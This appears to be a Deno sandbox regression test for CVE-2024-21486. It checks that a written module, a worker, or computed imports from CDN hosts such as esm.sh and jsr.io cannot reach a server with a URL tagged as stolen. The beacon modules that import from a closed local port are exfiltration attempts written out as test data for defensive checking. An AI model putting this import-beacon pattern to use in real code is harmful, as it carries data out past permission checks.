// Row 19, CVE-2024-21486: an import carries data out, or runs what was just written.
// grants: --allow-read=$box --allow-write=$box
// stopped by: broker, kernel
import { done, mustFail, world } from "../support.js";

const { box, closed } = world;
const beacon = `http://127.0.0.1:${closed}/secret.js?stolen`;
const asImport = { as: /Requires/ };

await mustFail("a written module that imports a server's", async () => {
  Deno.writeTextFileSync(`${box}/beacon.js`, `import ${JSON.stringify(beacon)};`);
  await import(`${box}/beacon.js`);
}, asImport);
await mustFail("a worker written for it", () => {
  Deno.writeTextFileSync(`${box}/beacon-worker.js`, `import ${JSON.stringify(beacon)}; postMessage("sent");`);
  const worker = new Worker(`file://${box}/beacon-worker.js`, { type: "module" });
  return new Promise((resolve, reject) => {
    worker.onmessage = resolve;
    worker.onerror = (event) => {
      event.preventDefault();
      reject(event.error ?? new Error(event.message));
    };
    setTimeout(resolve, 2000);
  }).finally(() => worker.terminate());
}, asImport);
// The well-known hosts may serve the static graph, and nothing that is computed. The port is no
// one's: what is let through fails to connect instead of being refused.
for (const host of ["deno.land", "jsr.io", "esm.sh", "cdn.jsdelivr.net", "raw.githubusercontent.com"]) {
  await mustFail(`a computed import from ${host}`, async () => {
    try {
      await import(["https://", host, "/stolen/", "x.js"].join(""));
    } catch (error) {
      if (/Requires import access/.test(error.message)) throw error;
      return error.message;
    }
  }, { as: /Requires/, kernel: false });
}
done();
